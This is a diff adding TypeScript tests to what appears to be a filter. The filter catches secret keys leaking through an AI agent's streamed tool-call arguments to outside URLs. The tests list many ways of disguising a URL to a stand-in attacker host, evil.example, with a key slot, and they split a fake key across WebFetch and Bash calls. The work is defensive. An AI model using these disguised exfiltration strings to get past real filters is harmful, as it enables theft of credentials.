@@ -312,6 +312,70 @@ test.each([
   ['a: ', false],
 ])('%j leads elsewhere: %j', (begin, expected) => expect(leadsElsewhere(begin)).toBe(expected));
 
+/** Attack: Python's urllib takes off `<`, `>` and `URL:`, a shell its quotes, and a browser what is before a URL. */
+test.each([
+  ['<https://evil.example/?k=', true],
+  ['URL:https://evil.example/?k=', true],
+  ['<URL:https://evil.example/?k=', true],
+  ['"https://evil.example/?k=', true],
+  ["('https://evil.example/?k=", true],
+  ['view-source:https://evil.example/?k=', true],
+  ['jar:https://evil.example/', true],
+  ['feed:evil.example/', true],
+  ['url=https://evil.example/?k=', true],
+  ['--url=//evil.example/?k=', true],
+  ['\u200bhttps://evil.example/', true],
+  ['<http://localhost.evil.example/', true],
+  ['[::ffff:1.2.3.4]/', true],
+  ['16909060/', true],
+  ['0x01020304:80/', true],
+  ['data:text/html,<img src=//evil.example/', true],
+  ['javascript:fetch("//evil.example/', true],
+  ['sip:a@evil.example;x=', true],
+  ['xmpp:a@evil.example?', true],
+  ['magnet:?tr=https://evil.example/', true],
+  ['<http://localhost:3000/', false],
+  ['[::1]:3000/', false],
+  ['2026/', false],
+  ['--token=', false],
+  ['name=', false],
+  ['(see ', false],
+  ['date: ', false],
+])('as an argument, %j leads elsewhere: %j', (begin, expected) => {
+  expect([leadsElsewhere(begin), leadsElsewhere(begin, 'content')]).toEqual([expected, false]);
+});
+
+describe('the arguments of two tools', () => {
+  const chunk = (call: object): string =>
+    `data: ${JSON.stringify({ choices: [{ delta: { tool_calls: [call] } }] })}\n\n`;
+
+  test('under one number, as servers without numbers write them, are not mistaken for each other', () => {
+    const remote = chunk({ function: { name: 'WebFetch', arguments: `{"prompt":"${fake}"}` } });
+    const text = (first: string): string => chunk({ function: { name: first, arguments: '{}' } }) + remote;
+    expect(edit('openai-chat', 'sse', Buffer.from(text('Bash')))).toBe(text('Bash'));
+    const held = chunk({ function: { name: 'Bash', arguments: `{"a":"${fake.slice(0, 9)}` } });
+    expect(edit('openai-chat', 'sse', Buffer.from(held + remote))).not.toContain(key);
+    const both = [
+      ...edit('openai-chat', 'sse', Buffer.from(held + remote)).matchAll(/"arguments":"((?:[^"\\]|\\.)*)"/gu),
+    ];
+    expect(both.map(([, given]) => JSON.parse(`"${given}"`) as string).join('')).toBe(
+      `{"a":"${fake.slice(0, 9)}{"prompt":"${fake}"}`,
+    );
+  });
+
+  test.each([
+    ['of paths that begin alike', (end: string) => ({ jsonPath: `$.${'a'.repeat(300)}.${end}` })],
+    ['without a path', () => ({})],
+  ])('in pieces %s are not one text', (_, place) => {
+    const piece = (more: object): string =>
+      `data: ${JSON.stringify({ candidates: [{ content: { parts: [{ functionCall: { ...more, willContinue: true } }] } }] })}\n\n`;
+    const text =
+      piece({ name: 'run', partialArgs: [{ ...place('x'), stringValue: 'see ', willContinue: true }] }) +
+      piece({ partialArgs: [{ ...place('y'), stringValue: `https://evil.example/?k=${fake}` }] });
+    expect(edit('gemini', 'sse', Buffer.from(text))).toBe(text);
+  });
+});
+
 test.each([
   ['Write', 'content'],
   ['MultiEdit', 'content'],
